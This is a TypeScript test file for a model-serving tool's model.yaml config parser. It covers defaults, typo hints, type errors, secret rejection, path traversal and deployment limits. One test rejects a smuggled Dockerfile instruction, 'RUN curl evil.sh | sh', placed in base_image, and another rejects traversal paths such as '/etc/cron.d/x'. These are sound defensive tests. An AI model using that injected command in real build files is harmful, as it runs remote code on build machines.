import {mkdtemp, readFile, rm, writeFile} from 'node:fs/promises'
import {tmpdir} from 'node:os'
import path from 'node:path'
import {afterEach, beforeEach, describe, expect, it} from 'vitest'

import {ConfigError} from '../errors.js'
import {type ConfigProblem, loadConfig, parseConfigText} from './load.js'
import {modelConfigJsonSchema} from './schema.js'

const repoRoot = path.resolve(import.meta.dirname, '../..')

function problemsOf(text: string): ConfigProblem[] {
  try {
    parseConfigText(text, 'model.yaml')
  } catch (error) {
    expect(error).toBeInstanceOf(ConfigError)
    return (error as ConfigError).details.problems as ConfigProblem[]
  }
  throw new Error('expected the config to be rejected')
}

const minimal = `name: iris
version: 1.0.0
model:
  file: model.onnx
`

describe('parseConfigText', () => {
  it('fills every default of a minimal model.yaml', () => {
    const config = parseConfigText(minimal, 'model.yaml')
    expect(config.model).toEqual({file: 'model.onnx', format: 'onnx'})
    expect(config.serving.port).toBe(8080)
    expect(config.serving.batching).toEqual({enabled: true, max_batch_size: 32, max_delay_ms: 5})
    expect(config.serving.cache.enabled).toBe(false)
    expect(config.build.base_image).toBe('node:20-bookworm-slim')
    expect(config.build.gpu).toBe(false)
    expect(config.monitoring.prediction_log.enabled).toBe(false)
    expect(config.signature).toBeUndefined()
  })

  it('names the line, column and key path of a typo, and suggests the closest key', () => {
    const [problem] = problemsOf(`${minimal}serving:\n  prot: 9000\n`)
    expect(problem).toMatchObject({
      column: 3,
      hint: 'did you mean "port"?',
      keyPath: 'serving.prot',
      line: 6,
      message: 'unknown key "prot"',
    })
  })

  it('says API keys never go in model.yaml, for serving.auth.keys and the like, without repeating them', () => {
    for (const key of ['keys', 'api_keys', 'token']) {
      const [problem] = problemsOf(
        `${minimal}serving:\n  auth:\n    enabled: true\n    ${key}: [abcdef0123456789abcd]\n`,
      )
      expect(problem).toMatchObject({keyPath: `serving.auth.${key}`, line: 8, message: `unknown key "${key}"`})
      expect(problem?.hint).toContain('API keys never go in model.yaml')
      expect(JSON.stringify(problem)).not.toContain('abcdef0123456789abcd')
    }
    // keys_envv is a typo of a known key, not a key put in the file.
    expect(problemsOf(`${minimal}serving:\n  auth:\n    keys_envv: X\n`)[0]?.hint).toBe('did you mean "keys_env"?')
  })

  it('lists the known keys when an unknown key is nothing like any of them', () => {
    const [problem] = problemsOf(`${minimal}build:\n  zzzzzzzzzz: 1\n`)
    expect(problem?.keyPath).toBe('build.zzzzzzzzzz')
    expect(problem?.hint).toContain('known keys here: base_image, gpu')
  })

  it('says what was expected and what it got for a wrong type', () => {
    const [problem] = problemsOf(`${minimal}serving:\n  port: "eighty"\n`)
    expect(problem).toMatchObject({keyPath: 'serving.port', line: 6, column: 9})
    expect(problem?.message).toBe('expected number, got "eighty" (a string)')
  })

  it('rejects a version that is not semver, on its line', () => {
    const [problem] = problemsOf(minimal.replace('1.0.0', '"1.0"'))
    expect(problem).toMatchObject({keyPath: 'version', line: 2})
    expect(problem?.message).toContain('semantic version')
  })

  it('reports a missing required key at the mapping that should hold it', () => {
    const [problem] = problemsOf('name: iris\nversion: 1.0.0\nmodel: {}\n')
    expect(problem).toMatchObject({keyPath: 'model.file', line: 3})
    expect(problem?.message).toContain('missing required key')
  })

  it('reports errors deep in the signature with an indexed key path', () => {
    const problems = problemsOf(`${minimal}signature:
  inputs:
    - name: x
      dtype: float33
      shape: [batch, 4]
  outputs:
    - name: y
      dtype: float32
      shape: [batch, "not a dim!"]
`)
    expect(problems.map((p) => p.keyPath)).toEqual(['signature.inputs[0].dtype', 'signature.outputs[0].shape[1]'])
    expect(problems[0]?.message).toContain('expected one of "float32"')
    expect(problems[0]?.line).toBe(8)
  })

  it('refuses values that would inject a Dockerfile instruction', () => {
    const problems = problemsOf(
      `${minimal}build:\n  base_image: "node:20\\nRUN curl evil.sh | sh"\n  env:\n    "A B": x\n`,
    )
    expect(problems.map((p) => p.keyPath)).toEqual(['build.base_image', 'build.env.A B'])
  })

  it('collects every problem, in file order', () => {
    const problems = problemsOf('name: Bad Name\nversion: x\nmodel:\n  file: m.onnx\n  fromat: onnx\n')
    expect(problems.map((p) => p.line)).toEqual([1, 2, 5])
  })

  it('reports invalid YAML with its position', () => {
    const [problem] = problemsOf('name: [\n')
    expect(problem?.line).toBeGreaterThanOrEqual(1)
    expect(problem?.keyPath).toBe('')
  })

  it('rejects a document that is not a mapping', () => {
    expect(problemsOf('- a\n- b\n')[0]?.message).toContain('expected a mapping')
  })

  it('rejects duplicate keys', () => {
    expect(problemsOf(`${minimal}name: again\n`)[0]?.message).toMatch(/unique/i)
  })

  it('keeps monitoring.prediction_log.path inside the log directory: absolute paths and ".." are refused on their line', () => {
    const withPath = (file: string) =>
      `${minimal}monitoring:\n  prediction_log:\n    enabled: true\n    path: ${JSON.stringify(file)}\n`
    for (const file of ['/etc/cron.d/x', '../outside.jsonl', 'logs/../../x.jsonl', 'C:\\x.jsonl', '..', 'logs/']) {
      const [problem] = problemsOf(withPath(file))
      expect(problem, file).toMatchObject({column: 11, keyPath: 'monitoring.prediction_log.path', line: 8})
      expect(problem?.message).toMatch(/a relative path that stays inside the log directory/)
    }
    expect(() => parseConfigText(withPath('../x.jsonl'), 'model.yaml')).toThrow(
      expect.objectContaining({
        exitCode: 2,
        message: expect.stringMatching(/model\.yaml:8:11 \[monitoring\.prediction_log\.path\]/),
      }),
    )
    for (const file of ['predictions.jsonl', 'logs/predictions.jsonl', './logs/../p.jsonl'])
      expect(parseConfigText(withPath(file), 'model.yaml').monitoring.prediction_log.path).toBe(file)
  })

  it('puts file:line:column [key] in the error message', () => {
    expect(() => parseConfigText(`${minimal}servng: {}\n`, '/models/iris/model.yaml')).toThrow(
      '/models/iris/model.yaml:5:1 [servng]: unknown key "servng" (did you mean "serving"?)',
    )
  })
})

describe('loadConfig', () => {
  let dir: string
  beforeEach(async () => {
    dir = await mkdtemp(path.join(tmpdir(), 'mlship-config-'))
  })
  afterEach(async () => {
    await rm(dir, {force: true, recursive: true})
  })

  it('loads the iris example and resolves the model path from the config directory', async () => {
    const loaded = await loadConfig(path.join(repoRoot, 'examples/iris'))
    expect(loaded.config.name).toBe('iris-classifier')
    expect(loaded.modelPath).toBe(path.join(repoRoot, 'examples/iris/model.onnx'))
    expect(loaded.config.signature?.outputs[0]?.labels).toEqual(['setosa', 'versicolor', 'virginica'])
  })

  it('accepts the path of a model.yaml as well as its directory', async () => {
    await writeFile(path.join(dir, 'other.yaml'), minimal)
    const loaded = await loadConfig(path.join(dir, 'other.yaml'))
    expect(loaded.dir).toBe(dir)
  })

  it('says how to create a model.yaml when there is none', async () => {
    await expect(loadConfig(dir)).rejects.toMatchObject({
      code: 'CONFIG_NOT_FOUND',
      exitCode: 2,
      message: `${path.join(dir, 'model.yaml')}: no such file`,
    })
  })
})

describe('the published JSON Schema', () => {
  it('is up to date with the zod schema (run `npm run schema` after changing it)', async () => {
    const committed = JSON.parse(await readFile(path.join(repoRoot, 'schema/model.schema.json'), 'utf8'))
    expect(committed).toEqual(modelConfigJsonSchema())
  })
})

describe('the deploy: section', () => {
  it('takes defaults for every key', () => {
    const config = parseConfigText(`${minimal}deploy: {}\n`, 'model.yaml')
    expect(config.deploy).toMatchObject({
      annotations: {},
      autoscaling: {target_cpu_utilization: 70},
      labels: {},
      namespace: 'default',
      network_policy: true,
      replicas: {max: 10, min: 2},
      resources: {limits: {}, requests: {}},
    })
    expect(parseConfigText(minimal, 'model.yaml').deploy).toBeUndefined()
  })

  it('suggests the closest key for a typo, with its line', () => {
    const [problem] = problemsOf(`${minimal}deploy:\n  replicas: {min: 1}\n  namespce: prod\n`)
    expect(problem).toMatchObject({hint: 'did you mean "namespace"?', keyPath: 'deploy.namespce', line: 7})
  })

  it('refuses min above max, a request above its limit, and a namespace that is not a DNS label', () => {
    expect(problemsOf(`${minimal}deploy:\n  replicas: {min: 5, max: 3}\n`)[0]).toMatchObject({
      keyPath: 'deploy.replicas.min',
      line: 6,
      message: 'replicas.min (5) is above replicas.max (3)',
    })
    expect(problemsOf(`${minimal}deploy:\n  resources: {requests: {cpu: 4}, limits: {cpu: 2000m}}\n`)[0]).toMatchObject(
      {keyPath: 'deploy.resources.requests.cpu', message: 'the cpu request (4) is above its limit (2000m)'},
    )
    const [namespace] = problemsOf(`${minimal}deploy:\n  namespace: Team_A\n`)
    expect(namespace?.keyPath).toBe('deploy.namespace')
    expect(namespace?.message).toContain('DNS-1123 label')
    expect(problemsOf(`${minimal}deploy:\n  resources: {limits: {memory: 1GB}}\n`)[0]?.message).toContain('quantity')
  })

  it('refuses GPUs for a CPU image, and no GPU for a GPU image', () => {
    expect(problemsOf(`${minimal}deploy:\n  gpus: 1\n`)[0]).toMatchObject({
      keyPath: 'deploy.gpus',
      message: expect.stringContaining('for a CPU image') as string,
    })
    expect(problemsOf(`${minimal}build: {gpu: true}\ndeploy:\n  gpus: 0\n`)[0]?.message).toContain(
      'needs at least 1 GPU',
    )
    expect(parseConfigText(`${minimal}build: {gpu: true}\ndeploy:\n  gpus: 2\n`, 'model.yaml').deploy?.gpus).toBe(2)
  })

  it('reads numbers as quantities', () => {
    const config = parseConfigText(`${minimal}deploy:\n  resources: {limits: {cpu: 1.5}}\n`, 'model.yaml')
    expect(config.deploy?.resources.limits.cpu).toBe('1.5')
  })
})
